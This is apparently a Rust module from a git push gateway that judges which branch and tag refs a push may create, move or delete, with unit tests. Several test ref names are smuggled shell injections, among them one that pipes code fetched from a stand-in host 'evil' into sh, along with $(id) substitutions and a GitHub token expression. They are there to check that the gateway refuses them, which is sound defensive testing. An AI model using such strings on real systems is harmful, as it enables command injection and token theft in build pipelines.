//! The push stage's rules by ref name: which refs a push may create, move or delete. Whether an update is a
//! fast-forward is decided later, from the pack (crate `push`).
//!
//! Branches follow the same [`BranchRules`] as in GitHub's API. A tag follows the rules of a branch with the same name.
//! In addition, a tag is never moved or deleted, because others have built on it.

use crate::branch::{BranchDenial, BranchRules, Existing};
use crate::refname;
use crate::{AuthMode, Container, Denial, Rule};
use serde::{Deserialize, Serialize};

/// The most refs in one push. Each ref is looked up at GitHub before the push passes.
pub const MAX_REFS: usize = 20;
/// The most bytes of a push that the gateway holds back, parsed or not. They wait if they decompress to far more than
/// usual.
pub const MAX_UNSENT: usize = 16 << 20;

/// How a refused push is reported to the client.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum PushRefusal {
    /// In git's own report, with a reason for each ref. If the client does not read reports, with status 403.
    #[default]
    Report,
    /// Always with status 403.
    Http,
}

/// The change that a push makes to a ref.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Change {
    /// The ref is created.
    Create,
    /// The ref is moved.
    Update,
    /// The ref is deleted.
    Delete,
}

/// A condition that the pack still has to meet.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Need {
    /// No condition.
    Nothing,
    /// The ref's new commit has to descend from its old one.
    FastForward,
}

/// Judges `change` to the ref `name` by `container`, whose record has only the repository that is pushed to
/// ([`Container::only`]). Returns the condition that the pack still has to meet.
///
/// # Errors
/// If the change is refused.
pub fn judge(rules: &BranchRules, container: &Container, name: &str, change: Change) -> Result<Need, Denial> {
    let refuse = |rule, reason: String| Err(Denial::new(rule, reason));
    let (tag, short) = match (refname::branch_of(name), name.strip_prefix("refs/tags/")) {
        (Some(branch), _) => (false, branch),
        (None, Some(tag)) if refname::is_branch(tag) => (true, tag),
        _ => {
            return refuse(Rule::PushRef, format!("{name:?} is not a plain branch or tag; nothing else can be pushed"));
        }
    };
    let existing = match change {
        Change::Create => Existing::No,
        Change::Update | Change::Delete => Existing::Yes,
    };
    match rules.may_move(container, None, short, existing) {
        Ok(()) => {}
        Err(BranchDenial::Malformed) => return refuse(Rule::PushRef, format!("{name:?} is not a plain branch or tag")),
        Err(BranchDenial::Protected) => {
            return refuse(Rule::PushProtected, format!("{short} is protected; {}", advice(container)));
        }
        Err(BranchDenial::NotAllowed) => {
            return refuse(
                Rule::PushBranch,
                format!("{short} is not one of this container's branches; {}", advice(container)),
            );
        }
        Err(BranchDenial::Name(odd)) => return refuse(Rule::PushNewName, format!("{short:?} {odd}")),
        Err(BranchDenial::Default) => {
            let reason = format!("{short} is the repository's default branch; {}", advice(container));
            return refuse(Rule::PushProtected, reason);
        }
        Err(BranchDenial::DefaultUnknown) => {
            let reason = "the repository's default branch is still being looked up; push again in a few seconds";
            return refuse(Rule::PushDefaultUnknown, reason.into());
        }
    }
    match change {
        Change::Create => Ok(Need::Nothing),
        Change::Update if tag => {
            let reason = format!("the tag {short} exists, and a tag is not moved; {}", tag_advice(container));
            refuse(Rule::PushTag, reason)
        }
        Change::Delete if tag => {
            refuse(Rule::PushTag, format!("the tag {short} may not be deleted; {}", tag_advice(container)))
        }
        Change::Delete if !rules.allow_deletion => {
            let reason = format!("{short} may not be deleted, nor any other; for other commits: {}", advice(container));
            refuse(Rule::PushDelete, reason)
        }
        Change::Update if !rules.may_force(container, short) => Ok(Need::FastForward),
        Change::Update | Change::Delete => Ok(Need::Nothing),
    }
}

fn globs(container: &Container) -> Vec<String> {
    container.allowed_branches.iter().map(ToString::to_string).collect()
}

/// Advice on what works instead of changing an existing tag.
fn tag_advice(container: &Container) -> String {
    match container.auth_mode {
        AuthMode::User => "push a tag of another name".into(),
        AuthMode::Bot => format!("names that would work for a new one: {}", globs(container).join(", ")),
    }
}

/// Advice on which branches work instead.
pub fn advice(container: &Container) -> String {
    let globs = globs(container);
    match (container.auth_mode, globs.is_empty()) {
        (AuthMode::User, _) => "push another branch and open a pull request".into(),
        (AuthMode::Bot, true) => "this container has no branches to push to".into(),
        (AuthMode::Bot, false) => format!("branches that would work: {}", globs.join(", ")),
    }
}

#[cfg(test)]
#[expect(clippy::unwrap_used, reason = "tests")]
mod tests {
    use super::*;

    fn container(mode: &str, force: bool) -> Container {
        serde_json::from_str(&format!(
            r#"{{"container_ip":"172.18.0.5","container_id":"a","repos":[{{"name":"o/r","default_branch":"trunk"}}],"auth_mode":"{mode}","force_own_branches":{force},"allowed_branches":["sandbox/*"],"expires_at":"2027-01-15T00:00:00Z"}}"#
        ))
        .unwrap()
    }

    fn rule(rules: &BranchRules, container: &Container, name: &str, change: Change) -> Result<Need, &'static str> {
        judge(rules, container, name, change).map_err(|denial| denial.rule.name())
    }

    #[test]
    fn names_and_changes_decide() {
        use Change::{Create, Delete, Update};
        let rules = BranchRules::default();
        let (bot, user) = (container("bot", false), container("user", false));
        let ff = Ok(Need::FastForward);
        for (name, change, of_bot, of_user) in [
            ("refs/heads/sandbox/x", Create, Ok(Need::Nothing), Ok(Need::Nothing)),
            ("refs/heads/sandbox/x", Update, ff, ff),
            ("refs/heads/sandbox/x", Delete, Err("push.delete"), Err("push.delete")),
            ("refs/heads/feature", Create, Err("push.branch"), Ok(Need::Nothing)),
            ("refs/heads/feature", Update, Err("push.branch"), ff),
            ("refs/heads/main", Create, Err("push.protected"), Err("push.protected")),
            ("refs/heads/MAIN", Update, Err("push.protected"), Err("push.protected")),
            ("refs/heads/main", Delete, Err("push.protected"), Err("push.protected")),
            ("refs/tags/sandbox/1", Create, Ok(Need::Nothing), Ok(Need::Nothing)),
            ("refs/tags/v1", Create, Err("push.branch"), Ok(Need::Nothing)),
            ("refs/tags/main", Create, Err("push.protected"), Err("push.protected")),
            ("refs/tags/sandbox/1", Update, Err("push.tag"), Err("push.tag")),
            ("refs/tags/sandbox/1", Delete, Err("push.tag"), Err("push.tag")),
        ] {
            assert_eq!(rule(&rules, &bot, name, change), of_bot, "bot {name} {change:?}");
            assert_eq!(rule(&rules, &user, name, change), of_user, "user {name} {change:?}");
        }
        for name in [
            "HEAD",
            "main",
            "heads/main",
            "refs/heads",
            "refs/heads/",
            "refs/notes/x",
            "refs/pull/1/head",
            "refs/replace/x",
            "refs/heads/HEAD",
            "refs/heads/-x",
            "refs/heads/refs/heads/x",
            "refs/heads/sandbox/../main",
            "refs/heads//x",
            "refs/heads/x.lock",
            "refs/heads/é",
            "Refs/heads/sandbox/x",
            "refs/remotes/o/x",
            "refs/tags/-v",
            "refs/for/main",
        ] {
            for change in [Create, Update, Delete] {
                assert_eq!(rule(&rules, &user, name, change), Err("push.ref"), "{name} {change:?}");
            }
        }
    }

    #[test]
    fn a_new_ref_has_a_plain_name_and_the_default_branch_stays() {
        use Change::{Create, Delete, Update};
        let rules = BranchRules { allow_deletion: true, ..BranchRules::default() };
        let (bot, user) = (container("bot", true), container("user", true));
        let ff = Ok(Need::FastForward);
        for (name, change, of_bot, of_user) in [
            ("refs/heads/sandbox/x\";curl${IFS}evil|sh;#", Create, Err("push.new-name"), Ok(Need::Nothing)),
            ("refs/heads/sandbox/`id`", Create, Err("push.new-name"), Ok(Need::Nothing)),
            ("refs/heads/sandbox/${{github.token}}", Create, Err("push.new-name"), Ok(Need::Nothing)),
            ("refs/tags/sandbox/$(id)", Create, Err("push.new-name"), Ok(Need::Nothing)),
            ("refs/heads/sandbox/#1", Update, Ok(Need::Nothing), Ok(Need::Nothing)),
            ("refs/heads/sandbox/#1", Delete, Ok(Need::Nothing), Ok(Need::Nothing)),
            ("refs/heads/sandbox/HEAD", Create, Err("push.new-name"), Err("push.new-name")),
            ("refs/heads/sandbox/HEAD", Update, Ok(Need::Nothing), Ok(Need::Nothing)),
            ("refs/tags/sandbox/HEAD", Create, Err("push.new-name"), Err("push.new-name")),
            ("refs/heads/heads/main", Create, Err("push.branch"), Err("push.new-name")),
            ("refs/heads/trunk", Update, Err("push.branch"), Err("push.protected")),
            ("refs/heads/Trunk", Create, Err("push.branch"), Err("push.protected")),
            ("refs/heads/trunk", Delete, Err("push.branch"), Err("push.protected")),
            ("refs/tags/trunk", Create, Err("push.branch"), Err("push.protected")),
            ("refs/heads/other", Update, Err("push.branch"), ff),
        ] {
            assert_eq!(rule(&rules, &bot, name, change), of_bot, "bot {name} {change:?}");
            assert_eq!(rule(&rules, &user, name, change), of_user, "user {name} {change:?}");
        }
        let unknown = Container { repos: vec![crate::Repo::parse("o/r").unwrap()], ..user };
        for (change, expected) in
            [(Create, Ok(Need::Nothing)), (Update, Err("push.default-unknown")), (Delete, Err("push.default-unknown"))]
        {
            assert_eq!(rule(&rules, &unknown, "refs/heads/trunk", change), expected, "{change:?}");
        }
        let denial = judge(&rules, &unknown, "refs/heads/trunk", Update).unwrap_err();
        assert_eq!(denial.status, 503, "a retry helps");
        let open = BranchRules { protect_default: false, ..rules };
        assert_eq!(rule(&open, &unknown, "refs/heads/trunk", Update), ff);
    }

    #[test]
    fn a_refusal_says_what_would_work() {
        use Change::{Create, Delete, Update};
        for (name, change) in [
            ("refs/heads/main", Update),
            ("refs/heads/main", Create),
            ("refs/heads/sandbox/x", Delete),
            ("refs/tags/sandbox/1", Update),
            ("refs/tags/sandbox/1", Delete),
        ] {
            for (mode, works) in [("bot", "sandbox/*"), ("user", "push a")] {
                let container = container(mode, false);
                let denial = judge(&BranchRules::default(), &container, name, change).unwrap_err();
                assert!(denial.reason.contains(works), "{mode} {name} {change:?}: {}", denial.reason);
            }
        }
    }

    #[test]
    fn force_and_deletion_are_the_policy_s_to_allow() {
        let rules = BranchRules { allow_force_push: true, allow_deletion: true, ..BranchRules::default() };
        let bot = container("bot", false);
        assert_eq!(rule(&rules, &bot, "refs/heads/sandbox/x", Change::Update), Ok(Need::Nothing));
        assert_eq!(rule(&rules, &bot, "refs/heads/sandbox/x", Change::Delete), Ok(Need::Nothing));
        assert_eq!(rule(&rules, &bot, "refs/heads/main", Change::Update), Err("push.protected"));
        assert_eq!(rule(&rules, &bot, "refs/tags/sandbox/x", Change::Update), Err("push.tag"));
        let rules = BranchRules::default();
        let own = container("user", true);
        assert_eq!(rule(&rules, &own, "refs/heads/sandbox/x", Change::Update), Ok(Need::Nothing));
        assert_eq!(rule(&rules, &own, "refs/heads/other", Change::Update), Ok(Need::FastForward));
        assert_eq!(rule(&rules, &own, "refs/heads/sandbox/x", Change::Delete), Err("push.delete"));
    }
}
